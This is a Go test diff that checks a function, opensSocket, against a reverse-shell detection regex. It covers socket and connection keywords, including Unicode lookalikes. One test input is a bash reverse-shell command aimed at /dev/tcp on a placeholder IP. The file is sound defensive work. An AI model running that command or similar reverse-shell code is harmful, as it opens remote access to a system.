@@ -250,3 +250,29 @@ func TestDistinctFindings(t *testing.T) {
 		}
 	}
 }
+
+// TestOpensSocket: the search for reverseShellRe's words answers as the
+// expression does.
+func TestOpensSocket(t *testing.T) {
+	cases := []string{"", "x", "import socket", "IMPORT SOCKET", "TCPSocket.new", "fsockopen(", "FSockOpen",
+		"require('net').connect", "net.Connect", "netXconnect", "bash -i >& /dev/tcp/1.2.3.4/80", "/DEV/TCP", "io.popen",
+		"IO.POPEN", "createConnection", "sock", "s0cket", "ſocket", "\u212aelvin socket", "ŝocket", "é socket", "create connection"}
+	for _, c := range loadCorporaCommands(t) {
+		cases = append(cases, c)
+	}
+	for _, c := range cases {
+		if got, want := opensSocket(c), reverseShellRe.MatchString(c); got != want {
+			t.Errorf("opensSocket(%q) = %v, the expression says %v", c, got, want)
+		}
+	}
+}
+
+func loadCorporaCommands(t *testing.T) []string {
+	var out []string
+	for _, cs := range loadCorpora(t) {
+		for _, c := range cs {
+			out = append(out, c.command)
+		}
+	}
+	return out
+}
